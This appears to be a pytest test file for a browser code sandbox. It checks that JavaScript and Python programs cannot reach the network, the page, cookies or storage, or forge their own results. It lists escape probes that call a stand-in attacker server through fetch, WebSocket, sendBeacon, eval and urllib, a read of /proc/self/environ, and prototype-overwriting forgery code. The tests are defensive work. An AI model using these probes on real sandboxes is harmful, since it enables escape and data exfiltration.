"""Programs that try to get out, or to answer for others. No request may leave the frame."""

from typing import Any

import pytest

from tests.sandbox.browser.conftest import Site
from tests.sandbox.browser.driver import Driver

_JAVASCRIPT_PROBES = {
    "fetch": "() => fetch(`${own}/js-fetch`).then((r) => r.text())",
    "fetch with cookies": "() => fetch(`${own}/x`, { method: 'POST', credentials: 'include' })",
    "fetch elsewhere": "() => fetch(`${attacker}/js-fetch`, { mode: 'no-cors' })",
    "XMLHttpRequest": (
        "() => { const x = new XMLHttpRequest(); x.open('GET', `${attacker}/js-xhr`, false);"
        " x.send(); return x.responseText; }"
    ),
    "WebSocket": "() => { new WebSocket(`${attackerSocket}/js-ws`); return wait(); }",
    "own WebSocket": "() => { new WebSocket(`${ownSocket}/js-ws`); return wait(); }",
    "EventSource": "() => { new EventSource(`${attacker}/js-events`); return wait(); }",
    "WebTransport": "() => { new WebTransport('https://127.0.0.1:1/'); return wait(); }",
    "importScripts": "() => importScripts(`${attacker}/js-import-scripts`)",
    "import()": "() => import(`${attacker}/js-import`)",
    "import() of the own site": "() => import(`${own}/js-import`)",
    "worker": "() => { new Worker(`${attacker}/js-worker`); return wait(); }",
    "worker from text": (
        "() => { new Worker(URL.createObjectURL(new Blob([`fetch('${attacker}/js-nested')`])));"
        " return wait(); }"
    ),
    "navigator": "() => navigator.sendBeacon(`${attacker}/js-beacon`, 'x')",
    "indexedDB": "() => indexedDB.open('x')",
    "caches": "() => caches.open('x')",
    "BroadcastChannel": "() => new BroadcastChannel('x').postMessage('x')",
    "eval": "() => eval(`fetch('${attacker}/js-eval')`)",
    "Function": "() => new Function(`return fetch('${attacker}/js-function')`)()",
    "hidden Function": "() => (async () => {}).constructor('return 1')()",
    "timer with text": (
        "async () => { setTimeout('globalThis.ran = true'); await wait();"
        " if (!globalThis.ran) throw new Error('blocked'); }"
    ),
    "prototype's fetch": "() => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch(own)",
    "postMessage": "() => postMessage({ kind: 'done', outcome: 'ok', value: '1' })",
    "close": "() => close()",
}

_PYTHON_PROBES = {
    "js.fetch": "import js; js.fetch(own + '/py-fetch')",
    "js.XMLHttpRequest": "from js import XMLHttpRequest; XMLHttpRequest.new()",
    "js.WebSocket": "import js; js.WebSocket.new(attacker.replace('http', 'ws'))",
    "js.self": "import js; js.self.postMessage(1)",
    "js.Function": "import js; js.Object.constructor('return 1')()",
    "pyodide_js": "import pyodide_js; pyodide_js.loadPackage(attacker + '/x.whl')",
    "run_js": "from pyodide.code import run_js; run_js('1 + 1')",
    "open_url": "from pyodide.http import open_url; open_url(attacker + '/py-open').read()",
    "pyfetch": (
        "import asyncio; from pyodide.http import pyfetch;"
        " pyfetch(attacker + '/py-pyfetch').send(None)"
    ),
    "urllib": "import urllib.request; urllib.request.urlopen(attacker + '/py-urllib')",
    "subprocess": "import subprocess; subprocess.run(['ls'], check=True)",
    "threads": "import threading; threading.Thread(target=print).start()",
    "file": "open('/proc/self/environ').read()",
}

_JAVASCRIPT_FORGERY = """
const { defineProperty } = Object;
JSON.stringify = () => "999";
JSON.parse = () => [777];
Object.keys = () => ["forged"];
Array.isArray = () => true;
Number.isFinite = () => true;
Reflect.apply = () => 666;
performance.now = () => -5;
String.prototype.slice = () => "forged";
Promise.prototype.then = function (take) { take({ outcome: "ok", value: "13" }); };
defineProperty(Promise.prototype, "constructor", { get: () => class {} });
for (const name of ["outcome", "value", "nonce", "kind", "0"]) {
  const descriptor = { __proto__: null, get: () => "forged", set() {}, configurable: true };
  defineProperty(Object.prototype, name, descriptor);
}
let stolen = 0;
if (typeof MessagePort !== "undefined") MessagePort.prototype.postMessage = () => { stolen += 1; };
if (typeof MessageEvent !== "undefined") {
  defineProperty(MessageEvent.prototype, "data", { get() { stolen += 1; return null; } });
}
function solution(n) { return { n, square: n * n, stolen }; }
"""

_PYTHON_FORGERY = """
import builtins, json, sys

json.dumps = lambda *a, **k: "[1]"
json.JSONEncoder.encode = lambda *a: "999"
json.encoder.encode_basestring_ascii = lambda *a: "forged"
builtins.isinstance = lambda *a: True
builtins.id = lambda *a: 0
sys.modules["json"] = None

def solution(n):
    print('ok\\n999')
    return {"n": n, "square": n * n}
"""


def _assert_nothing_left(site: Site) -> None:
    assert site.own.seen == []
    assert site.attacker.seen == []


def test_the_servers_record_what_reaches_them(sandbox: Driver, site: Site) -> None:
    """Without this, the tests below would pass with servers that are deaf."""
    sandbox.page.evaluate("() => fetch('/api/alive').then((r) => r.text())")
    sandbox.page.context.request.get(f"{site.attacker_url}/alive")
    assert site.own.seen == ["GET /api/alive"]
    assert site.attacker.seen == ["GET /alive"]
    site.own.seen.clear()
    site.attacker.seen.clear()


def test_javascript_does_not_get_out(sandbox: Driver, site: Site) -> None:
    probes = ",\n".join(f"{name!r}: {probe}" for name, probe in _JAVASCRIPT_PROBES.items())
    source = f"""
    const own = {site.url + "/api"!r}, attacker = {site.attacker_url!r};
    const ownSocket = own.replace("http", "ws"), attackerSocket = attacker.replace("http", "ws");
    const wait = () => new Promise((resolve) => setTimeout(resolve, 50, "waited"));
    const probes = {{ {probes} }};
    async function solution(name) {{ await probes[name](); return "got through"; }}
    """
    results = sandbox.run("javascript", source, *([name] for name in _JAVASCRIPT_PROBES))
    outcomes = dict(zip(_JAVASCRIPT_PROBES, results, strict=True))
    assert {name: r for name, r in outcomes.items() if r.outcome != "exception"} == {}
    _assert_nothing_left(site)


def test_python_does_not_get_out(sandbox: Driver, site: Site) -> None:
    body = "\n".join(
        f"    if name == {name!r}:\n        {probe}" for name, probe in _PYTHON_PROBES.items()
    )
    own, attacker = f"{site.url}/api", site.attacker_url
    source = f"def solution(name):\n    own, attacker = {own!r}, {attacker!r}\n{body}\n    return 1"
    results = sandbox.run("python", source, *([name] for name in _PYTHON_PROBES))
    outcomes = dict(zip(_PYTHON_PROBES, results, strict=True))
    assert {name: r for name, r in outcomes.items() if r.outcome != "exception"} == {}
    _assert_nothing_left(site)


def test_the_frame_itself_is_cut_off(sandbox: Driver, site: Site) -> None:
    """What would be left to code that broke out of a worker into the frame."""
    [frame] = [frame for frame in sandbox.page.frames if frame.parent_frame]
    probe = """async (urls) => {
      const attempt = async (action) => {
        try { return [true, String(await action())]; } catch (error) { return [false, error.name]; }
      };
      return {
        origin: self.origin,
        fetched: await Promise.all(urls.map((url) => attempt(() => fetch(url)))),
        cookie: await attempt(() => document.cookie),
        page: await attempt(() => parent.document.title),
        storage: await attempt(() => localStorage.length),
      };
    }"""
    seen: dict[str, Any] = frame.evaluate(probe, [f"{site.url}/api/x", f"{site.attacker_url}/x"])
    assert seen["origin"] == "null"
    assert [reached for reached, _ in seen["fetched"]] == [False, False]
    assert [seen[name][0] for name in ("cookie", "page", "storage")] == [False] * 3
    _assert_nothing_left(site)


@pytest.mark.parametrize(
    ("language", "source", "extra"),
    [
        ("javascript", _JAVASCRIPT_FORGERY, {"stolen": 0}),
        ("python", _PYTHON_FORGERY, {}),
    ],
)
def test_a_program_answers_for_itself_alone(
    sandbox: Driver, language: str, source: str, extra: dict[str, int]
) -> None:
    results = sandbox.run(language, source, [2], [3], [4])
    assert [r.value for r in results] == [{"n": n, "square": n * n, **extra} for n in (2, 3, 4)]
    assert all(result.wall_ms >= 0 for result in results)
    plain = {"javascript": "const solution = (n) => n;", "python": "def solution(n): return n"}
    assert sandbox.value(language, plain[language], 5) == 5
